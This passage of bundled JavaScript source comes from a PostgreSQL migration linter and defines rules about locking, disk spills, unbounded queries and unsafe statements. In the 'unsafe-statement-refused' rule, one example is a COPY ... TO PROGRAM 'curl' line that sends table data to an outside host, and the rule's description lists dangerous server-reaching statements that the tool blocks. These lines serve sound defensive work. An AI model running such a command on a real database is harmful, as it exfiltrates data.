              const pending = table?.constraints.find((c) => c.kind === "not-null" && !c.validated && c.columns.includes(column));
              const scan2 = "scans the whole table under an ACCESS EXCLUSIVE lock, blocking reads and writes until the scan is done";
              context.report(statement, {
                range: command.range,
                message: pending?.name ? `Making ${column} NOT NULL on ${name} validates the NOT VALID constraint ${pending.name}: it ${scan2}.` : `Making ${column} NOT NULL on ${name} ${scan2}.`,
                help: pending?.name ? `Run \`ALTER TABLE ${name} VALIDATE CONSTRAINT ${pending.name};\` in its own transaction instead: it checks the rows without blocking reads or writes, and the column is NOT NULL afterwards.` : version >= 12 && check?.name ? `Validate the CHECK constraint first, in its own transaction: \`ALTER TABLE ${name} VALIDATE CONSTRAINT ${check.name};\` does not block reads or writes, and SET NOT NULL then skips its scan.` : help(version, name, node.relation?.relname ?? name, column)
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/spill-to-disk.ts
function spillOf(plan, visit, workMem) {
  const { node } = visit;
  const share = workShare(plan, visit, true);
  const memory = `work_mem (${workMem})`;
  if (node["Sort Space Type"] === "Disk") {
    const kb = node["Sort Space Used"];
    return {
      what: `spilled to disk (${node["Sort Method"]}, ${formatCount(kb ?? 0)} kB written) because its rows did not fit in ${memory}.`,
      kb,
      share,
      help: `Raise work_mem for this query (SET LOCAL work_mem in its transaction) above what the sort needs in memory, which is more than the ${formatCount(kb ?? 0)} kB it wrote; or sort fewer rows: an index in the ORDER BY order, a LIMIT, or fewer columns.`
    };
  }
  const incrementalKb = incrementalSortDiskKb(node);
  if (incrementalKb !== void 0) {
    return {
      what: `spilled groups to disk (up to ${formatCount(incrementalKb)} kB) because they did not fit in ${memory}.`,
      kb: incrementalKb,
      share,
      help: "Raise work_mem for this query, or add the remaining ORDER BY columns to the index that gives the presorted order."
    };
  }
  if (node["Node Type"] === "Hash" && (node["Hash Batches"] ?? 1) > 1) {
    const join3 = visit.parent;
    const kb = join3 ? hashJoinTempKb(join3) : void 0;
    const planned = node["Original Hash Batches"] ?? 1;
    return {
      what: `split its hash table into ${node["Hash Batches"]} batches${planned > 1 ? "" : " (planned: 1)"} because it did not fit in ${memory} (\xD7 hash_mem_multiplier): the join wrote ${kb === void 0 ? "both inputs" : `${formatCount(kb)} kB`} to temporary files and read them back.`,
      kb,
      share: share + (join3 ? workShare(plan, join3, true) : 0),
      help: `Raise work_mem or hash_mem_multiplier for this query so the hash table fits; check that the smaller input is the hashed one (${formatCount(node["Actual Rows"] ?? 0)} rows here) and that its row estimate is right.`
    };
  }
  if (node["Node Type"] === "Aggregate" && (node["HashAgg Batches"] ?? 1) > 1) {
    const kb = node["Disk Usage"];
    return {
      what: `spilled ${formatCount(kb ?? 0)} kB of groups to disk in ${node["HashAgg Batches"]} batches because they did not fit in ${memory} (\xD7 hash_mem_multiplier).`,
      kb,
      share,
      help: "Raise work_mem or hash_mem_multiplier for this query, or group fewer rows (filter first, or pre-aggregate)."
    };
  }
  if (node.Storage === "Disk") {
    const kb = node["Maximum Storage"];
    return {
      what: `kept its rows in a temporary file (${formatCount(Number(kb ?? 0))} kB) because they did not fit in ${memory}.`,
      kb: kb === void 0 ? void 0 : Number(kb),
      share,
      help: "Raise work_mem for this query, or make the node hold fewer or narrower rows."
    };
  }
  const written = ownTempWritten(visit);
  if (written > 0 && !spillsElsewhere(visit)) {
    const kb = written * BLOCK_KB;
    return {
      what: `wrote ${formatCount(kb)} kB to temporary files because its working data did not fit in ${memory}.`,
      kb,
      share,
      help: "Raise work_mem for this query, or make the node hold fewer or narrower rows."
    };
  }
  return void 0;
}
function workMemSetting(plan) {
  return plan.Settings?.work_mem ?? (plan.Settings ? "4MB, the default" : "unknown here");
}
function incrementalSortDiskKb(node) {
  if (node["Node Type"] !== "Incremental Sort") return void 0;
  const peaks = ["Full-sort Groups", "Pre-sorted Groups"].map((key) => node[key]?.["Sort Space Disk"]?.["Peak Sort Space Used"]).filter((kb) => kb !== void 0);
  return peaks.length ? Math.max(...peaks) : void 0;
}
function ownTempWritten(visit) {
  const own = visit.node["Temp Written Blocks"] ?? 0;
  return own - visit.children.reduce((sum, child) => sum + (child.node["Temp Written Blocks"] ?? 0), 0);
}
function hashJoinTempKb(join3) {
  const total = join3.node["Temp Written Blocks"];
  if (total === void 0) return void 0;
  const outer = join3.children.find((c) => c.node["Parent Relationship"] === "Outer");
  return (total - (outer?.node["Temp Written Blocks"] ?? 0)) * BLOCK_KB;
}
function spillsElsewhere(visit) {
  return visit.children.some((c) => c.node["Node Type"] === "Hash" && (c.node["Hash Batches"] ?? 1) > 1);
}
var defaultOptions7, BLOCK_KB, spill_to_disk_default;
var init_spill_to_disk = __esm({
  "src/rules/spill-to-disk.ts"() {
    "use strict";
    init_rule();
    init_text2();
    init_walk();
    defaultOptions7 = { minSpillKb: 10240, minRuntimeShare: 0.05 };
    BLOCK_KB = 8;
    spill_to_disk_default = definePlanRule({
      meta: {
        id: "spill-to-disk",
        category: "plan",
        severity: "warning",
        needsAnalyze: true,
        summary: "A sort, hash or aggregate ran out of work_mem and spilled to temporary files.",
        why: "Sorts, hash tables and hash aggregates get `work_mem` of memory each (hashes `work_mem \xD7 hash_mem_multiplier`). When the data does not fit, Postgres writes it to temporary files and reads it back, in several passes for big inputs: the node runs many times slower, and under concurrent load the temporary files compete for disk bandwidth with everything else.",
        safeAlternative: "Raise work_mem for this query only (`SET LOCAL work_mem = '64MB'` in its transaction, or for the role that runs it) rather than globally, since every sort and hash of every connection may use that much. Or give the node less to hold: an index that returns rows in the wanted order, a LIMIT, fewer columns, or better row estimates.",
        defaultOptions: defaultOptions7,
        optionDocs: {
          minSpillKb: "Flag a spill of at least this many kB whatever its share of the runtime.",
          minRuntimeShare: "Flag a smaller spill when the spilling node takes at least this share of the execution time."
        },
        examples: {
          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL,\n  created_at timestamptz NOT NULL\n);\nINSERT INTO orders\nSELECT g, 1 + g % 2000, g % 500 + 0.99, timestamptz '2024-01-01 00:00:00+00' + g * interval '1 minute'\nFROM generate_series(1, 200000) AS g;\nVACUUM ANALYZE orders;",
          bad: ["SELECT id, customer_id, total FROM orders ORDER BY total DESC, created_at;"],
          good: ["SET work_mem = '32MB';\nSELECT id, customer_id, total FROM orders ORDER BY total DESC, created_at;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/runtime-config-resource.html#GUC-WORK-MEM",
          "https://www.postgresql.org/docs/current/runtime-config-resource.html#GUC-HASH-MEM-MULTIPLIER"
        ]
      },
      check(plan, context) {
        const { minSpillKb, minRuntimeShare } = context.options;
        const workMem = workMemSetting(plan);
        for (const visit of context.nodes) {
          const spill = spillOf(plan, visit, workMem);
          if (!spill || (spill.kb ?? 0) < minSpillKb && spill.share < minRuntimeShare) continue;
          context.report({
            node: visit.node,
            message: `${nodeLabel(visit.node)} ${spill.what}`,
            help: spill.help,
            evidence: { spillKb: spill.kb, workMem }
          });
        }
      }
    });
  }
});

// src/rules/statements-after-access-exclusive.ts
function onlySetsConfig(statement) {
  if (statement.type !== "SelectStmt") return false;
  const targets = statement.node.targetList ?? [];
  return targets.length > 0 && targets.every((t) => t.ResTarget?.val?.FuncCall?.funcname?.map(constantText).at(-1) === "set_config");
}
var CONTROL, OPAQUE, statements_after_access_exclusive_default;
var init_statements_after_access_exclusive = __esm({
  "src/rules/statements-after-access-exclusive.ts"() {
    "use strict";
    init_rule();
    init_statements();
    init_statement_locks();
    CONTROL = /* @__PURE__ */ new Set(["TransactionStmt", "VariableSetStmt", "VariableShowStmt"]);
    OPAQUE = /* @__PURE__ */ new Set(["DoStmt", "CallStmt", "ExecuteStmt", "SelectStmt"]);
    statements_after_access_exclusive_default = defineRule({
      meta: {
        id: "statements-after-access-exclusive",
        category: "transactions",
        severity: "warning",
        summary: "Do not run more statements in a transaction after it takes an ACCESS EXCLUSIVE lock on an existing table.",
        why: "Locks are held until the transaction ends. Once a statement has taken ACCESS EXCLUSIVE on a table, no one can read or write that table until COMMIT, so every statement that follows in the same transaction (a backfill, an index build, a lock wait on another table) adds its whole duration to the outage.",
        safeAlternative: "Put the statement that takes ACCESS EXCLUSIVE in its own transaction, or make it the last statement before COMMIT, or split the migration into several.",
        examples: {
          bad: ["BEGIN;\nALTER TABLE orders ADD COLUMN note text;\nUPDATE orders SET note = '';\nCOMMIT;"],
          good: [
            "BEGIN;\nUPDATE orders SET status = 'open' WHERE status IS NULL;\nALTER TABLE orders ADD COLUMN note text;\nCOMMIT;",
            "BEGIN;\nALTER TABLE orders ADD COLUMN note text;\nCREATE TABLE order_notes (id bigint);\nCOMMIT;"
          ]
        },
        references: ["https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"]
      },
      create(context) {
        let held;
        const reported = /* @__PURE__ */ new Set();
        const touchesExisting = (statement) => {
          const locks = locksTakenBy(statement, context.postgresVersion);
          if (locks.length === 0) return OPAQUE.has(statement.type) && !onlySetsConfig(statement);
          return locks.some((lock) => {
            const table = lockedTable(lock, context.catalog);
            return table === void 0 || !context.isNewTable(table);
          });
        };
        const accessExclusiveOnExisting = (statement) => {
          for (const lock of locksTakenBy(statement, context.postgresVersion)) {
            if ((lock.index ? lock.index.tableMode : lock.mode) !== "AccessExclusiveLock") continue;
            const table = lockedTable(lock, context.catalog);
            if (table !== void 0 && context.isNewTable(table)) continue;
            if (!lock.index) return lock.relation;
            const known = context.catalog.table(table);
            return known ? `${known.schema ? `${known.schema}.` : ""}${known.name}` : `the table of index ${lock.relation}`;
          }
          return void 0;
        };
        return {
          statement(statement) {
            const transaction = statement.transaction;
            if (held && held.transaction !== transaction) held = void 0;
            if (transaction === void 0) return;
            if (held && !reported.has(transaction) && !CONTROL.has(statement.type) && touchesExisting(statement)) {
              reported.add(transaction);
              context.report(statement, {
                message: `Runs while the transaction still holds the ACCESS EXCLUSIVE lock that line ${held.line} took on ${held.table}: every query on ${held.table} stays blocked until COMMIT, for as long as this statement and the rest of the transaction take.`,
                help: `Put the statement on line ${held.line} in its own transaction, or make it the last statement before COMMIT, or split the migration.`
              });
            }
            if (held) return;
            const table = accessExclusiveOnExisting(statement);
            if (table) held = { transaction, table, line: context.file.lines.position(statement.range.start).line };
          }
        };
      }
    });
  }
});

// src/rules/syntax-error.ts
var syntax_error_default;
var init_syntax_error = __esm({
  "src/rules/syntax-error.ts"() {
    "use strict";
    init_rule();
    syntax_error_default = defineRule({
      meta: {
        id: "syntax-error",
        category: "meta",
        severity: "error",
        summary: "The file does not parse as PostgreSQL.",
        why: "PostgreSQL rejects the file, so the migration fails when it runs. No other rule can check a file that does not parse.",
        safeAlternative: "Fix the SQL at the reported position; the message is the one PostgreSQL itself gives.",
        examples: { bad: ["ALTER TABLE orders ADD COLUMN note text NOT NULL DEFAULT;"], good: ["ALTER TABLE orders ADD COLUMN note text NOT NULL DEFAULT '';"] },
        references: ["https://www.postgresql.org/docs/current/sql-syntax.html"]
      },
      create: () => ({})
    });
  }
});

// src/rules/table-rewrite.ts
var table_rewrite_default;
var init_table_rewrite = __esm({
  "src/rules/table-rewrite.ts"() {
    "use strict";
    init_rule();
    table_rewrite_default = defineRule({
      meta: {
        id: "table-rewrite",
        category: "trace",
        severity: "error",
        summary: "The statement rewrote an existing table or index on the database.",
        why: "A rewrite copies every row into new storage and rebuilds the indexes while holding an ACCESS EXCLUSIVE lock, so nothing can read or write the table until it finishes; on a large table that is minutes. sql-preflight saw it happen when it ran the statement (pg_class.relfilenode changed), even though no static rule predicted it.",
        safeAlternative: "Find the form of the change that Postgres can apply in place (see the ALTER TABLE notes), or build the new shape alongside the old one (new column or table, backfill in batches, switch, drop) so no single statement rewrites.",
        examples: {
          existing: "CREATE TABLE orders (id bigint PRIMARY KEY, total numeric(12, 2));",
          bad: ["ALTER TABLE orders ALTER COLUMN total TYPE numeric(12, 4) USING total;"],
          good: ["ALTER TABLE orders ALTER COLUMN total TYPE numeric(14, 2);"]
        },
        references: ["https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES"]
      },
      create: () => ({})
    });
  }
});

// src/rules/templated-sql.ts
var templated_sql_default;
var init_templated_sql = __esm({
  "src/rules/templated-sql.ts"() {
    "use strict";
    init_rule();
    templated_sql_default = defineRule({
      meta: {
        id: "templated-sql",
        category: "meta",
        severity: "warning",
        summary: "The file contains template placeholders and cannot be analysed as SQL.",
        why: "Placeholders such as Go templates ({{ .Table }}), Jinja ({% if %}) or Flyway/goose variables (${schema}) are filled in by a tool before Postgres sees the file, so the file as committed is not SQL and none of its statements were checked.",
        safeAlternative: "Render the template before linting (for example lint the output of the tool that fills it in), or keep schema changes in plain SQL files.",
        examples: { bad: ["CREATE INDEX {{ .Name }} ON orders (customer_id);"], good: ["CREATE INDEX CONCURRENTLY orders_customer_id_idx ON orders (customer_id);"] }
      },
      create: () => ({})
    });
  }
});

// src/rules/unbounded-result.ts
function limited(root) {
  for (let visit = root; visit; ) {
    if (visit.node["Node Type"] === "Limit") return true;
    if (!PASS_THROUGH.has(visit.node["Node Type"])) return false;
    const inputs = visit.children.filter((c) => c.node["Parent Relationship"] !== "InitPlan" && c.node["Parent Relationship"] !== "SubPlan");
    visit = inputs.length === 1 ? inputs[0] : void 0;
  }
  return false;
}
var defaultOptions8, PASS_THROUGH, unbounded_result_default;
var init_unbounded_result = __esm({
  "src/rules/unbounded-result.ts"() {
    "use strict";
    init_rule();
    init_text2();
    init_walk();
    defaultOptions8 = { maxRows: 1e4 };
    PASS_THROUGH = /* @__PURE__ */ new Set(["Sort", "Incremental Sort", "Result", "Unique", "Subquery Scan", "LockRows", "Gather", "Gather Merge", "Materialize", "ProjectSet", "WindowAgg"]);
    unbounded_result_default = definePlanRule({
      meta: {
        id: "unbounded-result",
        category: "plan",
        severity: "warning",
        needsAnalyze: false,
        summary: "A query returns very many rows and has no LIMIT.",
        why: "Every returned row is read, sent over the network and held by the client, and without a LIMIT the count grows with the table: a list that shows 20 items fetches all of them, and an endpoint that was fast on a small database times out or runs out of memory on a large one.",
        safeAlternative: "Add a LIMIT and paginate. Keyset pagination (`WHERE id > $1 ORDER BY id LIMIT 100`) stays fast on later pages, unlike a growing OFFSET. If the caller really needs every row (an export), stream them with a cursor in batches.",
        defaultOptions: defaultOptions8,
        optionDocs: {
          maxRows: "Flag a query returning more rows than this (actual with ANALYZE, estimated without)."
        },
        examples: {
          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  status text NOT NULL,\n  total numeric(12, 2) NOT NULL\n);\nINSERT INTO orders\nSELECT g, CASE WHEN g % 1000 = 0 THEN 'late' ELSE 'delivered' END, g % 500 + 0.99\nFROM generate_series(1, 100000) AS g;\nVACUUM ANALYZE orders;",
          bad: ["SELECT id, total FROM orders WHERE status = 'delivered';"],
          good: ["SELECT id, total FROM orders WHERE status = 'delivered' ORDER BY id LIMIT 100;"]
        },
        references: ["https://www.postgresql.org/docs/current/queries-limit.html", "https://www.postgresql.org/docs/current/sql-declare.html"]
      },
      check(plan, context) {
        const root = context.nodes[0];
        if (!root || root.node["Node Type"] === "ModifyTable" || limited(root)) return;
        const analyzed2 = isAnalyzed(plan);
        const rows2 = analyzed2 ? (root.node["Actual Rows"] ?? 0) * (root.node["Actual Loops"] ?? 0) : root.node["Plan Rows"] ?? 0;
        if (rows2 <= context.options.maxRows) return;
        context.report({
          node: plan.Plan,
          message: `The query ${analyzed2 ? "returned" : "is estimated to return"} ${formatCount(rows2)} rows (${nodeLabel(plan.Plan)}) and has no LIMIT: the client receives and holds all of them, and their number grows with the table.`,
          evidence: { rows: Math.round(rows2), estimated: !analyzed2 }
        });
      }
    });
  }
});

// src/rules/unreadable-file.ts
var unreadable_file_default;
var init_unreadable_file = __esm({
  "src/rules/unreadable-file.ts"() {
    "use strict";
    init_rule();
    unreadable_file_default = defineRule({
      meta: {
        id: "unreadable-file",
        category: "meta",
        severity: "error",
        summary: "The file is not UTF-8 text, so it cannot be analysed.",
        why: "A migration that is not valid UTF-8 text is either not SQL at all or will be rejected by a UTF-8 database; none of it was checked.",
        safeAlternative: "Save the file as UTF-8, or remove binary files from the migration folder.",
        examples: { bad: [], good: ["SELECT 1;"] }
      },
      create: () => ({})
    });
  }
});

// src/rules/unsafe-statement-refused.ts
var unsafe_statement_refused_default;
var init_unsafe_statement_refused = __esm({
  "src/rules/unsafe-statement-refused.ts"() {
    "use strict";
    init_rule();
    unsafe_statement_refused_default = defineRule({
      meta: {
        id: "unsafe-statement-refused",
        category: "trace",
        severity: "error",
        summary: "A statement reaches outside the throwaway database, so check did not run it.",
        why: "A migration in a pull request is untrusted code, and check runs it on a database server. sql-preflight only runs what stays inside its own throwaway database: it does not run statements that act on other databases (CREATE, ALTER or DROP DATABASE), change the server (ALTER SYSTEM, LOAD, tablespaces), read or write its files or run programs (COPY ... PROGRAM, COPY with a file name, pg_read_file, lo_import, lo_export), connect elsewhere (dblink, postgres_fdw and other foreign data wrappers, foreign servers, user mappings, subscriptions), run code without a sandbox (untrusted languages, C functions), act on other sessions (pg_terminate_backend), switch roles (SET ROLE, SET SESSION AUTHORIZATION) or give roles server-wide powers (SUPERUSER, REPLICATION, BYPASSRLS, pg_execute_server_program and the like); function and DO bodies count where their SQL is static. The file stops at the refused statement, as it would at a failing one, so the statements after it were not checked on the database; the static findings still stand.",
        safeAlternative: "Keep such statements out of migrations: configure servers, extensions that reach out, and file loads outside the migration history, by an administrator. If a migration really needs one, lower this rule in .sql-preflight.yml to acknowledge it; the statement still does not run in check.",
        examples: {
          existing: "CREATE TABLE orders (id bigint PRIMARY KEY);",
          bad: ["COPY orders TO PROGRAM 'curl --data-binary @- https://example.com';", "CREATE EXTENSION dblink;"],
          good: ["CREATE EXTENSION IF NOT EXISTS pg_trgm;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-copy.html",
          "https://www.postgresql.org/docs/current/predefined-roles.html",
          "https://www.postgresql.org/docs/current/plpgsql-statements.html#PLPGSQL-STATEMENTS-EXECUTING-DYN"
        ]
      },
      create: () => ({})
    });
  }
});

// src/rules/unused-ignore.ts
var unused_ignore_default;
var init_unused_ignore = __esm({
  "src/rules/unused-ignore.ts"() {
    "use strict";
    init_rule();
    unused_ignore_default = defineRule({
      meta: {
        id: "unused-ignore",
        category: "meta",
        severity: "notice",
        summary: "An ignore comment names an unknown rule or suppresses nothing.",
        why: "Stale ignore comments pile up and hide the next real problem on the same statement; a misspelt rule id suppresses nothing at all.",
        safeAlternative: "Remove the ignore comment, or correct the rule id it names.",
        examples: {
          bad: ["-- sql-preflight-ignore require-concurrent-index-creation\nCREATE INDEX CONCURRENTLY orders_customer_id_idx ON orders (customer_id);"],
          good: ["-- sql-preflight-ignore require-concurrent-index-creation\nCREATE INDEX orders_customer_id_idx ON orders (customer_id);"]
        }
      },
      create: () => ({})
    });
  }
});

// src/rules/validate-in-same-transaction.ts
var validate_in_same_transaction_default;
var init_validate_in_same_transaction = __esm({
  "src/rules/validate-in-same-transaction.ts"() {
    "use strict";
    init_ast();
    init_catalog();
    init_locks();
    init_rule();
    validate_in_same_transaction_default = defineRule({
      meta: {
        id: "validate-in-same-transaction",
        category: "transactions",
        severity: "error",
        summary: "Validate a NOT VALID constraint in a later transaction than the one that added it.",
        why: "ADD CONSTRAINT ... NOT VALID skips the check of the existing rows so that its lock (ACCESS EXCLUSIVE for a CHECK or NOT NULL constraint, SHARE ROW EXCLUSIVE on both tables for a foreign key) is held only for a moment. Locks are kept until the transaction ends, so a VALIDATE CONSTRAINT in the same transaction scans the table while that lock is still held, blocking the same reads and writes as adding the constraint without NOT VALID.",
        safeAlternative: "Commit after adding the constraint and run VALIDATE CONSTRAINT in a separate transaction: after a COMMIT, or in the next migration when the runner wraps each file in a transaction. On its own it takes a SHARE UPDATE EXCLUSIVE lock, which lets reads and writes through.",
        examples: {
          bad: ["BEGIN;\nALTER TABLE orders ADD CONSTRAINT orders_quantity_positive CHECK (quantity > 0) NOT VALID;\nALTER TABLE orders VALIDATE CONSTRAINT orders_quantity_positive;\nCOMMIT;"],
          good: ["BEGIN;\nALTER TABLE orders ADD CONSTRAINT orders_quantity_positive CHECK (quantity > 0) NOT VALID;\nCOMMIT;\nALTER TABLE orders VALIDATE CONSTRAINT orders_quantity_positive;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DESC-VALIDATE-CONSTRAINT",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create(context) {
        const added = /* @__PURE__ */ new Map();
        return {
          AlterTableStmt(node, statement) {
            const table = relationName2(node.relation);
            const key = relationKey(node.relation);
            for (const { cmd, range: range2, constraint } of alterTableCommands(statement, node)) {
              if (cmd.subtype === "AT_AddConstraint" && constraint?.conname && constraint.skip_validation) {
                const foreign = constraint.contype === "CONSTR_FOREIGN";
                const referenced = relationName2(constraint.pktable);
                added.set(`${key}\0${constraint.conname}`, {
                  line: context.file.lines.position(statement.range.start).line,
                  statement: statement.index,
                  transaction: statement.transaction,
                  locks: foreign && referenced !== table ? `SHARE ROW EXCLUSIVE locks on ${table} and ${referenced}` : `${foreign ? "SHARE ROW EXCLUSIVE" : "ACCESS EXCLUSIVE"} lock on ${table}`,
                  blocking: describeBlocking(foreign ? "ShareRowExclusiveLock" : "AccessExclusiveLock")
                });
                continue;
              }
              if (cmd.subtype !== "AT_ValidateConstraint" || !cmd.name) continue;
              const add = added.get(`${key}\0${cmd.name}`);
              if (!add || context.isNewTable(node.relation)) continue;
              const together = add.statement === statement.index || add.transaction !== void 0 && add.transaction === statement.transaction;
              if (!together) continue;
              context.report(statement, {
                range: range2,
                message: `VALIDATE CONSTRAINT ${cmd.name} runs in the same transaction as the ADD CONSTRAINT ... NOT VALID on line ${add.line}, which still holds its ${add.locks}: the scan ${add.blocking} as if NOT VALID had not been used.`
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/validation-scan.ts
var validation_scan_default;
var init_validation_scan = __esm({
  "src/rules/validation-scan.ts"() {
    "use strict";
    init_rule();
    validation_scan_default = defineRule({
      meta: {
        id: "validation-scan",
        category: "trace",
        severity: "error",
        summary: "The statement scanned an existing table to validate it while holding a lock that blocks writes.",
        why: "Adding a valid constraint or setting NOT NULL makes Postgres read every row to check it, and it holds the statement's lock for the whole scan. sql-preflight saw the constraint become valid (or the column become NOT NULL) when it ran the statement, under a lock that blocks writes.",
        safeAlternative: "Add constraints NOT VALID and VALIDATE them in a separate transaction (VALIDATE takes a SHARE UPDATE EXCLUSIVE lock, which does not block reads or writes); for NOT NULL, validate a CHECK (col IS NOT NULL) first.",
        examples: {
          existing: "CREATE TABLE orders (id bigint PRIMARY KEY, total numeric(12, 2));",
          bad: ["ALTER TABLE orders ADD CONSTRAINT orders_total_check CHECK (total >= 0);"],
          good: ["ALTER TABLE orders ADD CONSTRAINT orders_total_check CHECK (total >= 0) NOT VALID;"]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES",
          "https://www.postgresql.org/docs/current/explicit-locking.html#LOCKING-TABLES"
        ]
      },
      create: () => ({})
    });
  }
});

// src/rules/index.ts
var rules;
var init_rules = __esm({
  "src/rules/index.ts"() {
    "use strict";
    init_adding_column_volatile_default();
    init_adding_required_column();
    init_adding_serial_column();
    init_adding_stored_generated_column();
    init_ban_char_type();
    init_ban_concurrently_in_transaction();
    init_ban_domain_check_constraint();
    init_ban_drop_column();
    init_ban_drop_database();
    init_ban_drop_schema();
    init_ban_drop_table();
    init_ban_exclusion_constraint();
    init_ban_lock_table();
    init_ban_nested_transaction();
    init_ban_truncate();
    init_ban_uncommitted_transaction();
    init_ban_vacuum_full_cluster();
    init_base_migration_failed();
    init_cartesian_product();
    init_changing_column_type();
    init_constraint_missing_not_valid();
    init_down_migration_mismatch();
    init_identifier_too_long();
    init_index_only_heap_fetches();
    init_index_suggestion();
    init_lossy_bitmap_scan();
    init_migration_failed();
    init_migration_layout();
    init_modified_migration();
    init_plan_regression();
    init_prefer_bigint_keys();
    init_prefer_identity();
    init_prefer_jsonb();
    init_prefer_text();
    init_prefer_timestamptz();
    init_query_broken_by_change();
    init_query_plan_failed();
    init_renaming_column();
    init_renaming_table();
    init_repeated_inner_scan();
    init_require_concurrent_detach();
    init_require_concurrent_index_creation();
    init_require_concurrent_index_deletion();
    init_require_concurrent_refresh();
    init_require_concurrent_reindex();
    init_require_index_on_foreign_key();
    init_require_lock_timeout();
    init_require_using_index();
    init_require_where_clause();
    init_row_misestimate();
    init_selective_seq_scan();
    init_setting_not_null();
    init_spill_to_disk();
    init_statements_after_access_exclusive();
    init_syntax_error();
    init_table_rewrite();
    init_templated_sql();
    init_unbounded_result();
    init_unreadable_file();
    init_unsafe_statement_refused();
    init_unused_ignore();
    init_validate_in_same_transaction();
    init_validation_scan();
    rules = [
      // locking
      adding_column_volatile_default_default,
      adding_serial_column_default,
      adding_stored_generated_column_default,
      ban_domain_check_constraint_default,
      ban_exclusion_constraint_default,
      ban_lock_table_default,
      ban_vacuum_full_cluster_default,
      changing_column_type_default,
      constraint_missing_not_valid_default,
      require_concurrent_detach_default,
      require_concurrent_index_creation_default,
      require_concurrent_index_deletion_default,
      require_concurrent_refresh_default,
      require_concurrent_reindex_default,
      require_lock_timeout_default,
      require_using_index_default,
      setting_not_null_default,
      // transactions
      ban_concurrently_in_transaction_default,
      ban_nested_transaction_default,
      ban_uncommitted_transaction_default,
      statements_after_access_exclusive_default,
      validate_in_same_transaction_default,
      // breaking
      adding_required_column_default,
      ban_drop_column_default,
      ban_drop_database_default,
      ban_drop_schema_default,
      ban_drop_table_default,
      ban_truncate_default,
      renaming_column_default,
      renaming_table_default,
      require_where_clause_default,
      // types
      ban_char_type_default,
      identifier_too_long_default,
      prefer_bigint_keys_default,
      prefer_identity_default,
      prefer_jsonb_default,
      prefer_text_default,
      prefer_timestamptz_default,
      require_index_on_foreign_key_default,
      // trace
      migration_failed_default,
      table_rewrite_default,
      validation_scan_default,
      down_migration_mismatch_default,
      modified_migration_default,
      base_migration_failed_default,
      unsafe_statement_refused_default,
      // plan
      selective_seq_scan_default,
      row_misestimate_default,
      spill_to_disk_default,
      repeated_inner_scan_default,
      index_only_heap_fetches_default,
      lossy_bitmap_scan_default,
      cartesian_product_default,
      unbounded_result_default,
      query_broken_by_change_default,
      query_plan_failed_default,
      plan_regression_default,
      index_suggestion_default,
      // meta
      migration_layout_default,
      syntax_error_default,
      templated_sql_default,
      unreadable_file_default,
      unused_ignore_default
    ];
  }
});

// src/core/suppression.ts
function findIgnores(file, executedText) {
  const directives = [];
  const bytes = Buffer.from(executedText, "utf8");
  const text2 = bytes.toString("latin1");
  for (const match of text2.matchAll(DIRECTIVE)) {
    const start = match.index;
    if (!isInComment(file, start)) continue;
    const list = Buffer.from(match[2], "latin1").toString("utf8").split("--")[0];
    const rules2 = list.split(/[\s,]+/).filter(Boolean);
    const range2 = { start, end: start + match[0].length };
    directives.push({
      scope: match[1] ? "file" : "statement",
      statement: match[1] ? void 0 : targetStatement(file, start),
      rules: rules2,
      range: range2
    });
  }
  return directives;
}
function isInComment(file, offset) {
  return !file.statements.some((s) => offset >= s.range.start && offset < s.range.end);
}
function targetStatement(file, offset) {
  const next = file.statements.findIndex((s) => s.range.start > offset);
  const previous = next === -1 ? file.statements.at(-1) : file.statements[next - 1];
  if (previous && sameLine(file.lines, previous.range.end, offset)) return previous.index;
  return next === -1 ? void 0 : next;
}
function sameLine(lines, a, b) {
  return lines.position(a).line === lines.position(b).line;
}
function applyIgnores(findings, directives, knownRules) {
  const used = directives.map(() => /* @__PURE__ */ new Set());
  const kept = findings.filter((finding) => {
    let covered = false;
    directives.forEach((directive, i) => {
      if (!directive.rules.includes(finding.ruleId)) return;
      if (directive.scope === "file" || finding.statement !== void 0 && directive.statement === finding.statement) {
        used[i].add(finding.ruleId);
        covered = true;
      }
    });
    return !covered;
  });
  const problems = [];
  directives.forEach((directive, i) => {
    const unknown = directive.rules.filter((r) => !knownRules.has(r));
    const unused = directive.rules.filter((r) => knownRules.has(r) && !used[i].has(r));
    const parts = [];
    if (directive.rules.length === 0) parts.push("names no rule");
    if (unknown.length) parts.push(`names unknown rule${unknown.length > 1 ? "s" : ""} ${unknown.join(", ")}`);
    if (unused.length) parts.push(`matches no finding of ${unused.join(", ")}`);
    if (parts.length) {
      problems.push({ range: directive.range, message: `This ignore comment ${parts.join(" and ")}; remove it so stale ignores do not pile up.` });
    }
  });
  return { kept, problems };
}
var DIRECTIVE;
var init_suppression = __esm({
  "src/core/suppression.ts"() {
    "use strict";
    DIRECTIVE = /--[ \t]*sql-preflight-ignore(-file)?\b([^\n]*)/g;
  }
});

// src/core/lint.ts
import { createHash } from "node:crypto";
function lintSources(sources, options) {
  const catalog = new Catalog();
  const byId = new Map(options.rules.map((rule) => [rule.meta.id, rule]));
  const files = [];
  const findings = [];
  let suppressed = 0;
  const changed = /* @__PURE__ */ new Map();
  const severityOf = (ruleId) => {
    const setting = options.ruleSettings?.[ruleId];
    return setting?.severity ?? byId.get(ruleId)?.meta.severity ?? "error";
  };
  for (const source2 of sources) {
    const lines = new LineIndex(source2.text);
    const fileFindings = [];
    const emit = (ruleId, range2, descriptor, statement) => {
      const severity = severityOf(ruleId);
      if (severity === "off") return;
      fileFindings.push(toFinding(ruleId, severity, source2.path, lines, range2, descriptor, statement, byId.get(ruleId)));
    };
    const report = {
      path: source2.path,
      kind: source2.kind,
      format: source2.format,
      transaction: source2.transaction,
      statements: [],
      parseErrors: []
    };
    files.push(report);
    if (source2.readError) {
      emit(ENGINE_RULES.unreadableFile, source2.readError.range ?? { start: 0, end: 0 }, { message: source2.readError.message });
